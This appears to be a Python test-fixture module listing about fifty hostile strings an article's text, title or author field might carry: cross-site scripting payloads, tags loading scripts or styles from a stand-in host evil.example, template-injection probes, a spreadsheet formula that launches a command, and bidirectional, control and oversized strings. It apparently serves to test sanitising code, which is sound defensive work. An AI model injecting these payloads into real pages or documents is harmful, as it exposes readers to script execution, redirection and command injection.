"""Fifty ways in which an article may attack its reader: markup, scripts, broken addresses, giant and turned words.

Each is a word that stands in the text, the title, the outlet and the author of an article, and in what was read from it.
"""

from __future__ import annotations

_CALL = "alert(1)"

MARKUP = (
    f"<script>{_CALL}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    f"</script><script>{_CALL}</script>",
    f"<img src=x onerror={_CALL}>",
    f'"><img src=x onerror={_CALL}>',
    f"'><svg/onload={_CALL}>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<svg><animate onbegin={_CALL} attributeName=x dur=1s>",
    f"<body onload={_CALL}>",
    f"<iframe src=javascript:{_CALL}></iframe>",
    f'<iframe srcdoc="<script>{_CALL}</script>"></iframe>',
    f"<a href=javascript:{_CALL}>hier</a>",
    f"<a href=data:text/html,<script>{_CALL}</script>>hier</a>",
    f"<form action=//evil.example><input name=x autofocus onfocus={_CALL}>",
    f"<details open ontoggle={_CALL}>",
    f"<video><source onerror={_CALL}></video>",
    f"<object data=javascript:{_CALL}></object>",
    f"<embed src=javascript:{_CALL}>",
    f"<math><mi xlink:href=javascript:{_CALL}>x</mi></math>",
    '<meta http-equiv=refresh content="0;url=http://evil.example/">',
    '<base href="http://evil.example/">',
    '<link rel=stylesheet href="http://evil.example/x.css">',
    "<style>@import url(http://evil.example/x.css);</style>",
    '<style>body{background:url("http://evil.example/x.png")}</style>',
    '<p style="position:fixed;inset:0;background:red">x</p>',
    f"<template><script>{_CALL}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={_CALL}>">',
    f"<title></title><script>{_CALL}</script>",
    f"</textarea><script>{_CALL}</script>",
    f"</style><script>{_CALL}</script>",
    f"--><script>{_CALL}</script><!--",
    "<!--",
    "<![CDATA[<script>]]>",
    "</main></body></html>",
    "<plaintext>",
)
BROKEN = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${7*7}<%= 7*7 %>#{7*7}",
    f"javascript:{_CALL}",
    "`'\"></",
    "\\u003cscript\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "=cmd|'/c calc'!A0",
)
TURNED = (
    "\u202egnaltotseb\u202c",
    "\u2066\u2067\u2068Nitup\u2069",
    "a\u0000b\u0007c\u001b[31md",
    "Z\u0301\u0302\u0303\u0304" + "\u0335\u0336\u0337\u0338" * 60,
    "W" * 20_000,
    "\ufeff\u200b\u200f\u00ad" * 50,
)
HOSTILE = MARKUP + BROKEN + TURNED
